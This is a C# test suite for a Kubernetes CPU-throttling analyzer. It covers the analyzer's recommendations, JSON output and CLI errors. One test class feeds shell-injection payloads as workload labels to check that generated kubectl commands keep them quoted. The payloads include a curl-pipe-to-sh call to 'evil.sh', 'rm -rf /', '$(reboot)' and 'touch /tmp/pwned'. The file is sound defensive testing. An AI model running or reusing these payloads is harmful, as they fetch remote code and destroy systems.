using System.Text.Json;
using ThrottleWatch.Analyzer.Commands;
using ThrottleWatch.Analyzer.Evidence;
using ThrottleWatch.Analyzer.Rules;
using ThrottleWatch.Analyzer.Sources;

namespace ThrottleWatch.Analyzer.Tests;

/// <summary>The rules on a synthetic recording with a known right answer for each action and trap.</summary>
public sealed class RecommendationTests : IDisposable
{
    private static readonly DateTimeOffset Start = new(2026, 11, 20, 0, 0, 0, TimeSpan.Zero);
    private readonly string _dir = Directory.CreateTempSubdirectory("tw-analyzer-").FullName;

    public void Dispose() => Directory.Delete(_dir, recursive: true);

    internal static string Write(string dir, SyntheticRecording r)
    {
        var path = Path.Combine(dir, "recording.om");
        File.WriteAllText(path, r.Text());
        return path;
    }

    internal static async Task<(int Code, string Out, string Err)> Run(params string[] args)
    {
        var stdout = new StringWriter();
        var stderr = new StringWriter();
        var context = new CliContext(stdout, stderr) { Now = () => new DateTimeOffset(2026, 11, 27, 12, 0, 0, TimeSpan.Zero) };
        int code = await AnalyzerCli.RunAsync(args, context);
        return (code, stdout.ToString(), stderr.ToString());
    }

    [Fact]
    public async Task Each_container_gets_its_known_right_action()
    {
        var recording = SyntheticRecording.Standard(Start);
        var source = RecordingSource.Load(Write(_dir, recording));
        var result = await Analysis.RunAsync(source, new Selector([]), source.Start, source.End, null, Thresholds.Default, keepLimits: false, Start, default);

        var actions = result.Report.Recommendations.GroupBy(r => $"{r.Namespace}/{r.Workload}/{r.Container}")
            .ToDictionary(g => g.Key, g => g.Select(r => r.Action).Order(StringComparer.Ordinal).ToArray());
        foreach (var (key, expected) in SyntheticRecording.Expected)
        {
            Assert.True(actions.ContainsKey(key), $"no recommendation for {key}");
            Assert.True(expected.SequenceEqual(actions[key]), $"{key}: expected {string.Join(",", expected)}, got {string.Join(",", actions[key])}: " +
                string.Join(" | ", result.Report.Recommendations.Where(r => $"{r.Namespace}/{r.Workload}/{r.Container}" == key).Select(r => r.Reason)));
        }

        var remove = result.Report.Recommendations.Single(r => r.Workload == "web" && r.Action == "remove-limit");
        Assert.Null(remove.Recommended!.LimitCores);
        Assert.Equal(0.5, remove.Recommended.RequestCores);
        Assert.Contains("\"cpu\":null", remove.Change!.Command, StringComparison.Ordinal);
        Assert.InRange(remove.Evidence.ThrottledRatioMean!.Value, 0.55, 0.65);
        Assert.InRange(remove.Evidence.ThrottledSecondsPerSecondP95!.Value, 0.3, 0.41);
        Assert.Equal(["node-a"], remove.Evidence.Nodes);
        Assert.InRange(remove.Confidence, 0.4, 0.6); // full coverage, 6 hours of a day: √0.25

        var raise = result.Report.Recommendations.Single(r => r.Workload == "api");
        Assert.True(raise.Recommended!.LimitCores > 0.5);
        Assert.Contains("busy", raise.Reason, StringComparison.Ordinal);
        Assert.Contains("--limits=cpu=", raise.Change!.Command, StringComparison.Ordinal);

        var tune = result.Report.Recommendations.Single(r => r.Workload == "report");
        Assert.Contains("GOMAXPROCS=2", tune.Reason, StringComparison.Ordinal);

        var lower = result.Report.Recommendations.Single(r => r.Workload == "db");
        Assert.True(lower.Recommended!.RequestCores < 0.5);
        Assert.True(lower.CoresDelta < -1.4, $"cores saved {lower.CoresDelta}");
        var raiseRequest = result.Report.Recommendations.Single(r => r.Workload == "cache");
        Assert.True(raiseRequest.Recommended!.RequestCores >= 0.5);
        Assert.True(raiseRequest.CoresDelta > 0.3);

        var idle = result.Report.Recommendations.Single(r => r.Workload == "cron");
        Assert.StartsWith("healthy", idle.Reason, StringComparison.Ordinal);
        Assert.InRange(idle.Evidence.ThrottledRatioMean!.Value, 0.25, 0.35); // the 25% rule would fire; ThrottleWatch does not
        var missing = result.Report.Recommendations.Single(r => r.Workload == "new");
        Assert.StartsWith("not enough data", missing.Reason, StringComparison.Ordinal);

        var reset = result.Report.Recommendations.Single(r => r.Workload == "web2" && r.Action == "remove-limit");
        Assert.InRange(reset.Evidence.UsageCoresMean!.Value, 0.4, 0.55); // the reset is not a negative rate
        Assert.Equal(2, result.Report.Recommendations.Single(r => r.Workload == "worker").Evidence.Replicas);

        Assert.Equal(9, result.Report.Summary.ContainersAnalyzed);
        Assert.Equal(4, result.Report.Summary.ContainersThrottled);
        Assert.Equal(["api", "report", "web", "web2"], result.Report.Summary.TopOffenders.Take(4).Select(o => o.Workload).Order(StringComparer.Ordinal));
        Assert.DoesNotContain(result.Report.Summary.TopOffenders.Take(4), o => o.Workload == "cron");
        Assert.Contains(result.Report.Nodes, n => n.Node == "node-b" && n.LimitsOverAllocatable == 2);
    }

    [Fact]
    public async Task Keep_limits_turns_removal_into_a_raise()
    {
        var path = Write(_dir, SyntheticRecording.Standard(Start));
        var (code, stdout, stderr) = await Run("recommend", "--input", path, "--format", "json", "--keep-limits");
        Assert.True(code == 0, stderr);
        using var doc = JsonDocument.Parse(stdout);
        var recs = doc.RootElement.GetProperty("recommendations").EnumerateArray().ToList();
        Assert.DoesNotContain(recs, r => r.GetProperty("action").GetString() == "remove-limit");
        Assert.Contains(recs, r => r.GetProperty("workload").GetString() == "web" && r.GetProperty("action").GetString() == "raise-limit");
    }

    [Fact]
    public async Task Json_follows_the_contract()
    {
        var path = Write(_dir, SyntheticRecording.Standard(Start));
        var (code, stdout, stderr) = await Run("recommend", "--input", path, "--format", "json");
        Assert.True(code == 0, stderr);
        using var doc = JsonDocument.Parse(stdout);
        var root = doc.RootElement;
        Assert.True(root.TryGetProperty("generatedAt", out _));
        Assert.Equal(Start, root.GetProperty("range").GetProperty("start").GetDateTimeOffset());
        foreach (var r in root.GetProperty("recommendations").EnumerateArray())
        {
            foreach (var key in new[] { "namespace", "workloadKind", "workload", "container", "action", "current", "recommended", "evidence", "confidence" })
            {
                Assert.True(r.TryGetProperty(key, out _), $"missing {key}");
            }
            Assert.InRange(r.GetProperty("confidence").GetDouble(), 0, 1);
            if (r.GetProperty("action").GetString() == "none")
            {
                Assert.Equal(JsonValueKind.Null, r.GetProperty("recommended").ValueKind);
            }
            if (r.GetProperty("action").GetString() == "remove-limit")
            {
                Assert.Equal(JsonValueKind.Null, r.GetProperty("recommended").GetProperty("limitCores").ValueKind);
            }
        }
    }

    [Theory]
    [InlineData("recommend")]
    [InlineData("recommend", "--input", "a.om", "--prometheus", "http://x:9090")]
    [InlineData("recommend", "--prometheus", "ftp://x")]
    [InlineData("recommend", "--prometheus", "http://x:9090", "--range", "a week")]
    [InlineData("recommend", "--prometheus", "http://x:9090", "--end", "yesterday")]
    [InlineData("recommend", "--prometheus", "http://x:9090", "--selector", "namespace=shop")]
    [InlineData("recommend", "--prometheus", "http://x:9090", "--format", "pdf")]
    [InlineData("report", "--prometheus", "http://x:9090")]
    public async Task Bad_flags_exit_2_with_one_line_each(params string[] args)
    {
        var (code, stdout, stderr) = await Run(args);
        Assert.Equal(2, code);
        Assert.Equal("", stdout);
        Assert.All(stderr.Split('\n', StringSplitOptions.RemoveEmptyEntries), l => Assert.StartsWith("error: ", l, StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("nr 1 2 3\n# EOF\n", "recording.om:1")]
    [InlineData("# TYPE x gauge\nx{a=\"1\"} 1 100\n", "no '# EOF'")]
    [InlineData("# TYPE x gauge\nx{a=\"1\"} 1\n# EOF\n", "timestamp")]
    [InlineData("# TYPE x gauge\nx{a=\"1\"} 1 100\nx{a=\"1\"} 2 50\n# EOF\n", "must increase")]
    [InlineData("# EOF\n", "no samples")]
    public async Task A_malformed_recording_is_one_clear_error_and_exit_2(string text, string message)
    {
        var path = Path.Combine(_dir, "recording.om");
        await File.WriteAllTextAsync(path, text);
        var (code, stdout, stderr) = await Run("recommend", "--input", path);
        Assert.Equal(2, code);
        Assert.Equal("", stdout);
        var line = Assert.Single(stderr.Split('\n', StringSplitOptions.RemoveEmptyEntries));
        Assert.Contains(message, line, StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_empty_range_is_bad_input()
    {
        var path = Write(_dir, SyntheticRecording.Standard(Start));
        var (code, _, stderr) = await Run("recommend", "--input", path, "--namespace", "nowhere");
        Assert.Equal(2, code);
        Assert.Contains("no named ThrottleWatch container series", stderr, StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_unreachable_prometheus_exits_3_and_writes_nothing()
    {
        var out_ = Path.Combine(_dir, "report");
        var (code, _, stderr) = await Run("report", "--prometheus", "http://127.0.0.1:9", "--out", out_);
        Assert.Equal(3, code);
        Assert.Single(stderr.Split('\n', StringSplitOptions.RemoveEmptyEntries));
        Assert.False(Directory.Exists(out_) && Directory.EnumerateFileSystemEntries(out_).Any());
    }

    [Fact]
    public void Cores_round_to_steps_a_person_would_write()
    {
        Assert.Equal(0.6, Cores.RoundLimitUp(0.51));
        Assert.Equal(2.25, Cores.RoundLimitUp(2.01));
        Assert.Equal(0.05, Cores.RoundRequestUp(0.041));
        Assert.Equal(0.6, Cores.RoundRequestUp(0.56));
        Assert.Equal("500m", Cores.Quantity(0.5));
        Assert.Equal("2", Cores.Quantity(2));
    }
}

/// <summary>Label values come from the cluster: the printed kubectl command must never run what they hold.</summary>
public class ChangeWriterTests
{
    [Theory]
    [InlineData("x;curl${IFS}evil.sh|sh;#", "web", "app")]
    [InlineData("Deployment", "web'; rm -rf / #", "app")]
    [InlineData("Deployment", "web", "app\"}]}}'; touch /tmp/pwned; echo '")]
    [InlineData("CronJob", "$(reboot)", "`id`")]
    public void Hostile_labels_stay_quoted_arguments(string kind, string workload, string container)
    {
        var key = new ThrottleWatch.Analyzer.Evidence.ContainerKey("shop", kind, workload, container);
        var raise = ThrottleWatch.Analyzer.Rules.ChangeWriter.For(key, null, 1.5, removeLimit: false);
        var remove = ThrottleWatch.Analyzer.Rules.ChangeWriter.For(key, 0.5, null, removeLimit: true);
        Assert.Single(raise.Yaml.Split('\n'), l => l.StartsWith('#'));
        if (kind is not ("Deployment" or "CronJob"))
        {
            // An unknown kind gets no command at all: nothing from the label is ever run.
            Assert.StartsWith("#", raise.Command, StringComparison.Ordinal);
            Assert.StartsWith("#", remove.Command, StringComparison.Ordinal);
            Assert.DoesNotContain("curl", raise.Command, StringComparison.Ordinal);
            return;
        }
        string target = kind.ToLowerInvariant() + "/" + workload;

        // The shell, not a regex, says what the command is: each word must be exactly what was meant.
        Assert.Equal(["kubectl", "-n", "shop", "set", "resources", target, "-c", container, "--limits=cpu=1500m"], ShellWords(raise.Command));

        var words = ShellWords(remove.Command);
        Assert.Equal(["kubectl", "-n", "shop", "patch", target, "--type=strategic", "-p"], words.Take(7));
        Assert.Equal(8, words.Count);
        var patch = System.Text.Json.Nodes.JsonNode.Parse(words[7])!;
        var spec = kind == "CronJob" ? patch["spec"]!["jobTemplate"]!["spec"]!["template"]!["spec"]! : patch["spec"]!["template"]!["spec"]!;
        Assert.Equal(container, spec["containers"]![0]!["name"]!.GetValue<string>());
    }

    /// <summary>Splits a command as sh would: by `sh -c 'printf "%s\0" …'`.</summary>
    private static List<string> ShellWords(string command)
    {
        var psi = new System.Diagnostics.ProcessStartInfo("sh", ["-c", "printf '%s\\0' " + command["kubectl".Length..]]) { RedirectStandardOutput = true };
        using var p = System.Diagnostics.Process.Start(psi)!;
        var output = p.StandardOutput.ReadToEnd();
        p.WaitForExit();
        Assert.Equal(0, p.ExitCode);
        return ["kubectl", .. output.Split('\0', StringSplitOptions.RemoveEmptyEntries)];
    }
}
